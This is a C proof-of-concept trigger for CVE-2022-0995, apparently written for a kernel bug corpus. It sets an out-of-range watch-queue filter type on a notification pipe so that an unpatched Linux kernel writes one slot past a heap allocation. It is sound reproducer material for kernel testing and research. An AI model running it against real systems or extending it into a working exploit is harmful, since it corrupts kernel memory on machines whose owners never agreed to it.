// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2022-0995 trigger, written for krr's bug corpus from the fix (93ce93587d36): a watch-queue
 * filter whose type is at least the bitmap's size in bits (64) but below its size in bytes times
 * BITS_PER_LONG (512) is skipped when the kernel counts the filters to allocate and copied when
 * it fills them, one slot past the allocation.
 */
#define _GNU_SOURCE
/* linux/watch_queue.h brings linux/fcntl.h (O_NOTIFICATION_PIPE), which glibc's <fcntl.h> clashes with. */
#include <linux/watch_queue.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void)
{
	struct {
		struct watch_notification_filter head;
		struct watch_notification_type_filter one;
	} f;
	int fds[2];

	if (pipe2(fds, O_NOTIFICATION_PIPE) < 0) {
		perror("pipe2(O_NOTIFICATION_PIPE)");
		return 1;
	}
	memset(&f, 0, sizeof(f));
	f.head.nr_filters = 1;
	f.one.type = 100;
	f.one.subtype_filter[0] = ~0u;
	printf("setting a filter of type %u on a notification pipe\n", f.one.type);
	fflush(stdout);
	if (ioctl(fds[0], IOC_WATCH_QUEUE_SET_FILTER, &f) < 0) {
		perror("IOC_WATCH_QUEUE_SET_FILTER");
		return 1;
	}
	puts("the kernel took the filter without a report");
	return 0;
}
